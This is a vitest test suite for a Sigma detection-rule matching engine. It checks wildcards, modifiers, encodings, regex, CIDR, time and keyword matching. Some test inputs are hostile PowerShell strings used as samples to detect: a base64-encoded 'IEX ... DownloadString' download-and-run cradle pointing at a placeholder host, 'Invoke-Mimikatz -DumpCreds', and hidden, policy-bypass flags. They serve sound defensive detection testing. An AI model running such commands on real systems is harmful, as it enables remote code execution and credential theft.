import { describe, expect, it } from "vitest";
import { base64OffsetVariants } from "../src/index.ts";
import { compileErrors, matches } from "./helpers.ts";

const sel = (body: string) => `  selection:\n${body}\n  condition: selection`;

describe("plain values and wildcards", () => {
  it("matches whole values case-insensitively by default", () => {
    expect(matches(sel("    Image: 'C:\\Windows\\cmd.exe'"), { Image: "c:\\windows\\CMD.EXE" })).toBe(true);
    expect(matches(sel("    Image: 'cmd.exe'"), { Image: "c:\\windows\\cmd.exe" })).toBe(false);
  });
  it("supports * and ? wildcards", () => {
    expect(matches(sel("    Image: '*\\cmd.exe'"), { Image: "C:\\x\\cmd.exe" })).toBe(true);
    expect(matches(sel("    Image: 'prog?.exe'"), { Image: "progA.exe" })).toBe(true);
    expect(matches(sel("    Image: 'prog?.exe'"), { Image: "progAB.exe" })).toBe(false);
    expect(matches(sel("    Image: 'a*b*c'"), { Image: "aXXbYYc" })).toBe(true);
    expect(matches(sel("    Image: 'a*b*c'"), { Image: "aXXcYYb" })).toBe(false);
  });
  it("treats escaped wildcards as literal characters", () => {
    expect(matches(sel("    Value: 'what\\?'"), { Value: "what?" })).toBe(true);
    expect(matches(sel("    Value: 'what\\?'"), { Value: "whatX" })).toBe(false);
    expect(matches(sel("    Value: 'a\\*b'"), { Value: "a*b" })).toBe(true);
    expect(matches(sel("    Value: 'a\\*b'"), { Value: "aXXb" })).toBe(false);
    // \\* is an escaped backslash followed by a real wildcard.
    expect(matches(sel("    Value: 'dir\\\\*'"), { Value: "dir\\anything" })).toBe(true);
    // A backslash before an ordinary character stays a backslash.
    expect(matches(sel("    Value: 'C:\\Temp'"), { Value: "C:\\Temp" })).toBe(true);
  });
  it("matches numbers and booleans by their text and lists as OR", () => {
    expect(matches(sel("    EventID: 4688"), { EventID: 4688 })).toBe(true);
    expect(matches(sel("    EventID: 4688"), { EventID: "4688" })).toBe(true);
    expect(matches(sel("    EventID:\n      - 1\n      - 4688"), { EventID: 1 })).toBe(true);
    expect(matches(sel("    Enabled: true"), { Enabled: true })).toBe(true);
    expect(matches(sel("    Enabled: true"), { Enabled: false })).toBe(false);
  });
  it("matches long value lists in one pass with the same results as value by value", () => {
    const names = Array.from({ length: 12 }, (_, i) => `Cmdlet${i}`);
    const list = (modifier: string) => sel(`    CommandLine${modifier}:\n${names.map((n) => `      - '${n}'`).join("\n")}`);
    expect(matches(list("|contains"), { CommandLine: "powershell -c cmdlet7 -x" })).toBe(true);
    expect(matches(list("|contains"), { CommandLine: "powershell -c cmdlet -x" })).toBe(false);
    expect(matches(list("|startswith"), { CommandLine: "CMDLET11 more" })).toBe(true);
    expect(matches(list("|startswith"), { CommandLine: "x Cmdlet11" })).toBe(false);
    expect(matches(list("|endswith"), { CommandLine: "run Cmdlet3" })).toBe(true);
    expect(matches(list("|endswith"), { CommandLine: "Cmdlet3 run" })).toBe(false);
    expect(matches(list(""), { CommandLine: "cmdlet5" })).toBe(true);
    expect(matches(list(""), { CommandLine: "cmdlet5 " })).toBe(false);
    expect(matches(list("|contains|all"), { CommandLine: "cmdlet1" })).toBe(false);
    expect(matches(list("|contains|all"), { CommandLine: names.join(" ") })).toBe(true);
    expect(matches(list("|neq"), { CommandLine: "cmdlet5" })).toBe(false);
  });
  it("matches any element of a multi-valued field", () => {
    expect(matches(sel("    Tags|contains: evil"), { Tags: ["good", "very evil"] })).toBe(true);
  });
  it("requires every map entry (AND) and any list item (OR)", () => {
    const detection = "  selection:\n    - A: 1\n      B: 2\n    - C: 3\n  condition: selection";
    expect(matches(detection, { A: 1, B: 2 })).toBe(true);
    expect(matches(detection, { A: 1, B: 3 })).toBe(false);
    expect(matches(detection, { C: 3 })).toBe(true);
  });
  it("treats empty strings as a present, empty value", () => {
    expect(matches(sel("    Field: ''"), { Field: "" })).toBe(true);
    expect(matches(sel("    Field: ''"), {})).toBe(false);
  });
});

describe("null and exists", () => {
  it("null matches a missing, null or empty field", () => {
    expect(matches(sel("    PasswordLastSet: null"), {})).toBe(true);
    expect(matches(sel("    PasswordLastSet: null"), { PasswordLastSet: null })).toBe(true);
    expect(matches(sel("    PasswordLastSet: null"), { PasswordLastSet: "" })).toBe(true);
    expect(matches(sel("    PasswordLastSet: null"), { PasswordLastSet: "2024-01-01" })).toBe(false);
  });
  it("exists checks presence only, even of a null value", () => {
    expect(matches(sel("    User|exists: true"), { User: null })).toBe(true);
    expect(matches(sel("    User|exists: true"), {})).toBe(false);
    expect(matches(sel("    User|exists: false"), {})).toBe(true);
    expect(matches(sel("    User|exists: false"), { User: "x" })).toBe(false);
  });
  it("rejects exists without a boolean and null inside a list", () => {
    expect(compileErrors(sel("    User|exists: yes please"))[0]).toMatch(/"exists" needs true or false/);
    expect(compileErrors(sel("    User:\n      - a\n      - null"))[0]).toMatch(/null cannot be part of a list/);
  });
});

describe("position modifiers, all, cased, neq", () => {
  it("contains, startswith and endswith", () => {
    expect(matches(sel("    CommandLine|contains: ' -enc '"), { CommandLine: "powershell -ENC abc" })).toBe(true);
    expect(matches(sel("    Image|startswith: 'C:\\Users\\'"), { Image: "c:\\users\\x\\a.exe" })).toBe(true);
    expect(matches(sel("    Image|startswith: 'C:\\Users\\'"), { Image: "d:\\c:\\users\\" })).toBe(false);
    expect(matches(sel("    Image|endswith: '\\rundll32.exe'"), { Image: "C:\\Windows\\System32\\RUNDLL32.EXE" })).toBe(true);
  });
  it("all requires every value", () => {
    const detection = sel("    CommandLine|contains|all:\n      - ' -nop'\n      - ' -w hidden'");
    expect(matches(detection, { CommandLine: "powershell -nop -w hidden" })).toBe(true);
    expect(matches(detection, { CommandLine: "powershell -nop" })).toBe(false);
  });
  it("lists of wildcard values read the field once and keep any, all and cased semantics, also on multi-valued fields", () => {
    const any = sel("    Data|contains:\n      - 'a?c'\n      - 'x*z'");
    const all = sel("    Data|contains|all:\n      - 'a?c'\n      - 'x*z'");
    const cased = sel("    Data|contains|cased:\n      - 'A?C'\n      - 'X*Z'");
    expect([matches(any, { Data: "..ABC.." }), matches(any, { Data: "x..Z" }), matches(any, { Data: "acx" })]).toEqual([true, true, false]);
    expect([matches(all, { Data: "abc x z" }), matches(all, { Data: "abc" }), matches(all, {})]).toEqual([true, false, false]);
    // Each value must hold in some value of the field, not necessarily the same one.
    expect([matches(all, { Data: ["abc", "xyz"] }), matches(all, { Data: ["abc", "xy"] }), matches(any, { Data: ["q", "xyz"] })]).toEqual([true, false, true]);
    expect([matches(cased, { Data: "ABC" }), matches(cased, { Data: "abc" }), matches(cased, { Data: ["q", "XyZ"] })]).toEqual([true, false, true]);
  });
  it("cased matches case-sensitively", () => {
    expect(matches(sel("    CommandLine|contains|cased: 'FromBase64'"), { CommandLine: "x FromBase64String" })).toBe(true);
    expect(matches(sel("    CommandLine|contains|cased: 'FromBase64'"), { CommandLine: "x frombase64string" })).toBe(false);
  });
  it("neq negates the value test", () => {
    expect(matches(sel("    User|neq: SYSTEM"), { User: "alice" })).toBe(true);
    expect(matches(sel("    User|neq: SYSTEM"), { User: "system" })).toBe(false);
  });
});

describe("windash", () => {
  const detection = sel("    CommandLine|windash|contains: ' -exec bypass'");
  it.each(["-", "/", "\u2013", "\u2014", "\u2015"])("accepts %s as the flag character", (dash) => {
    expect(matches(detection, { CommandLine: `powershell ${dash}exec bypass` })).toBe(true);
  });
  it("does not match other characters", () => {
    expect(matches(detection, { CommandLine: "powershell +exec bypass" })).toBe(false);
  });
  it("only replaces dashes that start a word, as pySigma does", () => {
    const hyphenated = sel("    CommandLine|windash|contains: 'Set-Item -Path'");
    expect(matches(hyphenated, { CommandLine: "Set-Item /Path x" })).toBe(true);
    expect(matches(hyphenated, { CommandLine: "Set/Item -Path x" })).toBe(false);
  });
  it("works after contains in the modifier chain too", () => {
    expect(matches(sel("    CommandLine|contains|windash: ' -s '"), { CommandLine: "x /s y" })).toBe(true);
    expect(matches(sel("    CommandLine|contains|windash: 'a-b'"), { CommandLine: "x a/b y" })).toBe(false);
  });
});

describe("encodings", () => {
  it("base64 encodes the whole value", () => {
    expect(matches(sel("    Data|base64: 'http://'"), { Data: "aHR0cDovLw==" })).toBe(true);
  });
  it("base64offset yields the three alignment variants pySigma produces", () => {
    expect(base64OffsetVariants(new TextEncoder().encode("http://"))).toEqual(["aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"]);
    expect(base64OffsetVariants(new TextEncoder().encode("/bin/bash"))).toEqual(["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"]);
  });
  it("base64offset|contains finds the value at every offset of a longer encoded string", () => {
    const detection = sel("    CommandLine|base64offset|contains: 'Invoke-Mimikatz'");
    for (const prefix of ["", "a", "ab", "abc"]) {
      const encoded = Buffer.from(`${prefix}Invoke-Mimikatz -DumpCreds`).toString("base64");
      expect(matches(detection, { CommandLine: `powershell -enc ${encoded}` })).toBe(true);
    }
    expect(matches(detection, { CommandLine: Buffer.from("Invoke-Something").toString("base64") })).toBe(false);
  });
  it("utf16le / wide then base64offset matches PowerShell -EncodedCommand payloads", () => {
    const payload = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x')", "utf16le").toString("base64");
    expect(matches(sel("    CommandLine|wide|base64offset|contains: 'DownloadString'"), { CommandLine: `powershell -e ${payload}` })).toBe(true);
    expect(matches(sel("    CommandLine|utf16le|base64offset|contains: 'DownloadString'"), { CommandLine: `powershell -e ${payload}` })).toBe(true);
    expect(matches(sel("    CommandLine|base64offset|contains: 'DownloadString'"), { CommandLine: `powershell -e ${payload}` })).toBe(false);
  });
  it("utf16be and utf16 (with BOM) encode as specified", () => {
    expect(matches(sel("    Data|utf16be|base64: 'cmd'"), { Data: Buffer.from([0, 0x63, 0, 0x6d, 0, 0x64]).toString("base64") })).toBe(true);
    expect(matches(sel("    Data|utf16|base64: 'cmd'"), { Data: Buffer.from([0xff, 0xfe, 0x63, 0, 0x6d, 0, 0x64, 0]).toString("base64") })).toBe(true);
  });
  it("refuses to encode wildcards", () => {
    expect(compileErrors(sel("    Data|base64: 'a*'"))[0]).toMatch(/cannot encode a value containing wildcards/);
  });
});

describe("re", () => {
  it("is case-sensitive by default and takes i, m and s flags", () => {
    expect(matches(sel("    CommandLine|re: '\\s-H\\s'"), { CommandLine: "curl -H x" })).toBe(true);
    expect(matches(sel("    CommandLine|re: '\\s-H\\s'"), { CommandLine: "curl -h x" })).toBe(false);
    expect(matches(sel("    CommandLine|re|i: '\\s-H\\s'"), { CommandLine: "curl -h x" })).toBe(true);
    expect(matches(sel("    Text|re: '^second$'"), { Text: "first\nsecond" })).toBe(false);
    expect(matches(sel("    Text|re|m: '^second$'"), { Text: "first\nsecond" })).toBe(true);
    expect(matches(sel("    Text|re: 'first.second'"), { Text: "first\nsecond" })).toBe(false);
    expect(matches(sel("    Text|re|s: 'first.second'"), { Text: "first\nsecond" })).toBe(true);
  });
  it("decides literal-and-gap expressions like the RegExp would, without backtracking", () => {
    const plusses = sel("    CommandLine|re: '\\+.*\\+.*\\+'");
    const cases = ["a+b+c+", "a+b+c", "+\n++", "+++", "x" + "+y".repeat(2) + "z".repeat(50_000)];
    for (const text of cases) expect(matches(plusses, { CommandLine: text }), text.slice(0, 20)).toBe(/\+.*\+.*\+/.test(text));
    expect(matches(sel("    CommandLine|re|s: 'a.*b'"), { CommandLine: "a\nb" })).toBe(true);
    expect(matches(sel("    CommandLine|re: 'a.*b'"), { CommandLine: "a\nb" })).toBe(false);
    expect(matches(sel("    CommandLine|re|i: 'A.*B'"), { CommandLine: "xaYb" })).toBe(true);
  });
  it("holds for a list when any of its expressions does, each keeping its anchors, alternatives, groups and flags", () => {
    const values = ["^start", "end$", "(x)y", "(a)\\1", "(?<pair>b)\\k<pair>", "(?<pair>c)\\k<pair>", "(?i)MiXeD", "p|q", "\\+.*\\+", "(?s)one.two"];
    const detection = sel(`    CommandLine|re:\n${values.map((value) => `      - '${value}'`).join("\n")}`);
    const expected = (text: string) =>
      values.some((value) => {
        const inline = /^\(\?([is])\)/.exec(value);
        return new RegExp(inline ? value.slice(inline[0].length) : value, inline?.[1] ?? "").test(text);
      });
    const texts = ["start here", "a start", "the end", "end it", "xy", "xaay", "xaby", "bb", "cc", "cb", "mixed", "MIXED", "p", "q", "a+b+", "a+b", "one\ntwo", "one two", "ONE\nTWO", ""];
    for (const text of texts) expect(matches(detection, { CommandLine: text }), text).toBe(expected(text));
    expect(compileErrors(sel("    CommandLine|re:\n      - 'fine'\n      - '(unclosed'"))[0]).toMatch(/invalid regular expression "\(unclosed"/);
  });
  it("accepts PCRE leading inline flags", () => {
    expect(matches(sel("    CommandLine|re: '(?i)invoke-expression'"), { CommandLine: "INVOKE-EXPRESSION" })).toBe(true);
  });
  it("reports invalid expressions with the file line", () => {
    const errors = compileErrors(sel("    CommandLine|re: '(unclosed'"));
    expect(errors[0]).toMatch(/^inline\.yml:6: detection\.selection\.CommandLine\|re: invalid regular expression/);
  });
});

describe("cidr", () => {
  it("matches IPv4 networks", () => {
    const detection = sel("    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - 192.168.1.0/24");
    expect(matches(detection, { DestinationIp: "10.20.30.40" })).toBe(true);
    expect(matches(detection, { DestinationIp: "192.168.1.255" })).toBe(true);
    expect(matches(detection, { DestinationIp: "192.168.2.1" })).toBe(false);
    expect(matches(detection, { DestinationIp: "not an ip" })).toBe(false);
  });
  it("matches IPv6 networks, including compressed and v4-mapped forms", () => {
    expect(matches(sel("    Ip|cidr: 'fe80::/10'"), { Ip: "FE80::1:2" })).toBe(true);
    expect(matches(sel("    Ip|cidr: 'fe80::/10'"), { Ip: "fec0::1" })).toBe(false);
    expect(matches(sel("    Ip|cidr: '2001:db8::/32'"), { Ip: "2001:0db8:0000:0000:0000:ff00:0042:8329" })).toBe(true);
    expect(matches(sel("    Ip|cidr: '::ffff:0:0/96'"), { Ip: "::ffff:10.1.2.3" })).toBe(true);
    expect(matches(sel("    Ip|cidr: '10.0.0.0/8'"), { Ip: "::ffff:10.1.2.3" })).toBe(false);
  });
  it("tests each text against every block of a mixed list, whatever was tested before", () => {
    // Blocks share the parse of the text they test: a text must never be judged by the address of another.
    const detection = sel("    Ip|cidr:\n      - '::1/128'\n      - 10.0.0.0/8\n      - 'fc00::/7'\n      - 192.168.0.0/16");
    const texts: [string, boolean][] = [
      ["10.1.2.3", true],
      ["fd00::5", true],
      ["8.8.8.8", false],
      ["::1", true],
      ["2001:db8::1", false],
      ["192.168.7.7", true],
      ["-", false],
      ["10.1.2.3", true],
    ];
    for (const [ip, expected] of [...texts, ...[...texts].reverse()]) expect(matches(detection, { Ip: ip }), ip).toBe(expected);
  });
  it("decides membership bit for bit at every prefix length, IPv4 and IPv6", () => {
    // Reference: the address as one number, compared above the host bits.
    const v4 = (text: string) => text.split(".").reduce((value, part) => (value << 8n) | BigInt(part), 0n);
    const v6 = (text: string) => text.split(":").reduce((value, group) => (value << 16n) | BigInt(parseInt(group, 16)), 0n);
    let seed = 7;
    const next = (limit: number) => (seed = (seed * 1103515245 + 12345) % 2 ** 31) % limit;
    const v4Text = () => Array.from({ length: 4 }, () => next(256)).join(".");
    const v6Text = () => Array.from({ length: 8 }, () => next(0x10000).toString(16)).join(":");
    for (let round = 0; round < 300; round++) {
      const six = round % 2 === 1;
      const base = six ? v6Text() : v4Text();
      const prefix = next(six ? 129 : 33);
      // Addresses near the block: its base with some of the low bits changed, and one drawn at random.
      const width = six ? 128 : 32;
      const value = six ? v6(base) : v4(base);
      const flipped = value ^ (1n << BigInt(next(width)));
      const asText = (number: bigint) =>
        six
          ? Array.from({ length: 8 }, (_, group) => ((number >> BigInt(16 * (7 - group))) & 0xffffn).toString(16)).join(":")
          : Array.from({ length: 4 }, (_, part) => String((number >> BigInt(8 * (3 - part))) & 0xffn)).join(".");
      const detection = sel(`    Ip|cidr: '${base}/${prefix}'`);
      for (const address of [asText(flipped), six ? v6Text() : v4Text(), base]) {
        const number = six ? v6(address) : v4(address);
        const hostBits = BigInt(width - prefix);
        expect(matches(detection, { Ip: address }), `${address} in ${base}/${prefix}`).toBe(number >> hostBits === value >> hostBits);
      }
    }
    expect(matches(sel("    Ip|cidr: '0.0.0.0/0'"), { Ip: "255.255.255.255" })).toBe(true);
    expect(matches(sel("    Ip|cidr: '::/0'"), { Ip: "1.2.3.4" })).toBe(false);
    for (const text of ["1.2.3", "1.2.3.4.5", "1.2.3.256", "1..2.3", "1.2.3.4.", "01234.1.1.1", " 10.0.0.1 ", "[::1]"]) {
      const parses = !/^(1\.2\.3|1\.2\.3\.4\.5|1\.2\.3\.256|1\.\.2\.3|1\.2\.3\.4\.|01234\.1\.1\.1)$/.test(text);
      expect(matches(sel("    Ip|cidr:\n      - '0.0.0.0/0'\n      - '::/0'"), { Ip: text }), text).toBe(parses);
    }
  });
  it("rejects malformed blocks", () => {
    expect(compileErrors(sel("    Ip|cidr: '10.0.0.0/33'"))[0]).toMatch(/invalid CIDR block/);
  });
});

describe("numeric, time, fieldref and expand", () => {
  it("matches plain numbers against numbers, texts and lists alike", () => {
    const one = sel("    EventID: 4624");
    const several = sel("    EventID:\n      - 1\n      - 5\n      - 2.5");
    const cases: [string, unknown, boolean][] = [
      [one, 4624, true],
      [one, "4624", true],
      [one, 46240, false],
      [one, "4624 ", false],
      [one, [1, 4624], true],
      [one, null, false],
      [several, 5, true],
      [several, 2.5, true],
      [several, "2.5", true],
      [several, 3, false],
      [several, Number.NaN, false],
      [several, ["3", 5], true],
      [several, -0, false],
    ];
    for (const [detection, value, expected] of cases) expect(matches(detection, { EventID: value }), `${detection} ${String(value)}`).toBe(expected);
  });
  it("compares numbers", () => {
    expect(matches(sel("    Size|gt: 100"), { Size: 101 })).toBe(true);
    expect(matches(sel("    Size|gt: 100"), { Size: "100" })).toBe(false);
    expect(matches(sel("    Size|gte: 100"), { Size: "100" })).toBe(true);
    expect(matches(sel("    Size|lt: 5"), { Size: 4.5 })).toBe(true);
    expect(matches(sel("    Size|lte: 5"), { Size: "abc" })).toBe(false);
    expect(compileErrors(sel("    Size|gt: many"))[0]).toMatch(/needs a numeric value/);
  });
  it("extracts time parts", () => {
    expect(matches(sel("    UtcTime|hour: 3"), { UtcTime: "2024-05-01 03:15:00.000" })).toBe(true);
    expect(matches(sel("    UtcTime|hour|gte: 22"), { UtcTime: "2024-05-01T23:15:00Z" })).toBe(true);
    expect(matches(sel("    UtcTime|month: 5"), { UtcTime: "2024-05-01T23:15:00Z" })).toBe(true);
    expect(matches(sel("    UtcTime|hour: 1"), { UtcTime: "2024-05-01T03:15:00+02:00" })).toBe(true);
    expect(matches(sel("    UtcTime|hour: 3"), { UtcTime: "not a time" })).toBe(false);
  });
  it("reads times without a zone as UTC, like event times, whatever the machine's zone", () => {
    const zone = process.env["TZ"];
    process.env["TZ"] = "America/New_York";
    try {
      expect(new Date(2024, 4, 1, 3).getUTCHours()).toBe(7);
      expect(matches(sel("    UtcTime|hour: 3"), { UtcTime: "2024-05-01T03:15:00" })).toBe(true);
      expect(matches(sel("    UtcTime|day: 1"), { UtcTime: "2024-05-01 23:15:00" })).toBe(true);
    } finally {
      if (zone === undefined) delete process.env["TZ"];
      else process.env["TZ"] = zone;
    }
  });
  it("fieldref compares two fields of the same event", () => {
    expect(matches(sel("    SourceUser|fieldref: TargetUser"), { SourceUser: "ALICE", TargetUser: "alice" })).toBe(true);
    expect(matches(sel("    SourceUser|fieldref: TargetUser"), { SourceUser: "alice", TargetUser: "bob" })).toBe(false);
    expect(matches(sel("    Image|fieldref|endswith: Name"), { Image: "C:\\x\\evil.exe", Name: "evil.exe" })).toBe(true);
  });
  it("expand substitutes configured placeholders and rejects unknown ones", () => {
    const detection = sel("    User|expand: '%Admins%'");
    expect(matches(detection, { User: "root" }, { Admins: ["Administrator", "root"] })).toBe(true);
    expect(matches(detection, { User: "alice" }, { Admins: ["Administrator", "root"] })).toBe(false);
    expect(compileErrors(detection)[0]).toMatch(/no values configured for placeholder "%Admins%"/);
    expect(matches(sel("    Path|expand: '\\%literal%'"), { Path: "%literal%" })).toBe(true);
  });
  it("rejects unknown modifiers", () => {
    expect(compileErrors(sel("    Image|sortof: x"))[0]).toMatch(/unknown value modifier "sortof"/);
  });
});

describe("keywords", () => {
  it("searches every field value for each keyword", () => {
    const detection = "  keywords:\n    - 'port-control force-authorized'\n    - 'no dot1x'\n  condition: keywords";
    expect(matches(detection, { message: "User:admin logged command:no dot1x system-auth-control" })).toBe(true);
    expect(matches(detection, { message: "show running-config" })).toBe(false);
  });
  it("supports keyword modifiers through an empty field name", () => {
    const detection = "  keywords:\n    '|all':\n      - 'alpha'\n      - 'beta'\n  condition: keywords";
    expect(matches(detection, { a: "alpha", b: "beta" })).toBe(true);
    expect(matches(detection, { a: "alpha" })).toBe(false);
  });
});
